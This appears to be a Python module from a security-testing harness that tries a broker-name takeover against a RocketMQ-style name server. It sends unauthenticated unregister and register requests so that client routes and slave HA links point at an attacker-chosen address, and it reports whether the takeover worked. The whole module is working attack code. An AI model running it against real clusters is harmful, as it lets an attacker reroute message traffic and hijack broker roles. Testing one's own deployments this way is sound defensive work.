"""The attacker that tries to take a broker name over at the name server: unregister its live
master, register a master of its own, or point the live master's HA address at itself
(``broker_name_takeover``).

Why a module of its own: it attacks the routes every client and slave follows, not a
broker; it wins not by crashing anything but by what the name server answers to
``GET_BROKER_CLUSTER_INFO`` afterwards.
"""

from __future__ import annotations

import trio

from ...remoting import RemotingClient, RemotingError, open_remoting_client
from ...wire.remoting import RemotingCommand, RequestCode, ResponseCode
from ...wire.route import ClusterInfo
from ._common import CONNECT_TIMEOUT, AttackOutcome, Tally, code_name

__all__ = ["broker_name_takeover"]


async def _master_of(client: RemotingClient, broker_name: str) -> str | None:
    reply = await client.invoke(RemotingCommand.request(
        RequestCode.GET_BROKER_CLUSTER_INFO, {}), CONNECT_TIMEOUT)
    if reply.code != ResponseCode.SUCCESS:
        return None
    data = ClusterInfo.decode(reply.body).broker_addr_table.get(broker_name)
    return data.broker_addrs.get(0) if data is not None else None


async def broker_name_takeover(namesrv: str, broker_name: str, *, fake_addr: str,
                               fake_ha_addr: str, seconds: float = 10.0) -> AttackOutcome:
    """Try to take ``broker_name`` over at the name server ``namesrv``, unsigned, from a
    connection of our own: UNREGISTER_BROKER of its live master, REGISTER_BROKER of a master
    (brokerId 0) at ``fake_addr`` with HA at ``fake_ha_addr``, and REGISTER_BROKER of the
    live master's own address with HA at ``fake_ha_addr`` (what a slave that follows the
    name server would dial). The fake registrations go when this connection closes, at the
    end. The answers count the name server's replies, and ``taken over`` once if the routes
    named the attacker at any step (or it took the live master's address); the note says
    who the master was before and after."""
    tally = Tally("broker name takeover", namesrv)
    before = after = None
    taken = False
    with trio.move_on_after(seconds):
        try:
            async with open_remoting_client(namesrv, connect_timeout=CONNECT_TIMEOUT) as client:
                tally.connections += 1
                before = await _master_of(client, broker_name)
                if before is None:
                    tally.note = f"{broker_name} has no master at {namesrv}: nothing to take"
                    return tally.outcome()
                cluster = "DefaultCluster"
                steps = [
                    (RequestCode.UNREGISTER_BROKER, {"brokerName": broker_name,
                                                     "brokerAddr": before, "brokerId": 0,
                                                     "clusterName": cluster}),
                    (RequestCode.REGISTER_BROKER, {"brokerName": broker_name,
                                                   "brokerAddr": fake_addr, "brokerId": 0,
                                                   "clusterName": cluster,
                                                   "haServerAddr": fake_ha_addr}),
                    (RequestCode.REGISTER_BROKER, {"brokerName": broker_name,
                                                   "brokerAddr": before, "brokerId": 0,
                                                   "clusterName": cluster,
                                                   "haServerAddr": fake_ha_addr}),
                ]
                for code, fields in steps:
                    reply = await client.invoke(RemotingCommand.request(code, fields),
                                                CONNECT_TIMEOUT)
                    tally.frames_sent += 1
                    tally.answers[code_name(reply.code)] += 1
                    after = await _master_of(client, broker_name)
                    taken = taken or after == fake_addr or (
                        code == RequestCode.REGISTER_BROKER and fields["brokerAddr"] == before
                        and reply.code == ResponseCode.SUCCESS)
        except RemotingError as exc:
            tally.note = f"the name server did not answer: {exc}"
    if taken:
        tally.answers["taken over"] += 1
    tally.note = tally.note or (f"master before {before}, after {after}; "
                                f"{'TAKEN OVER' if taken else 'held'}")
    return tally.outcome()
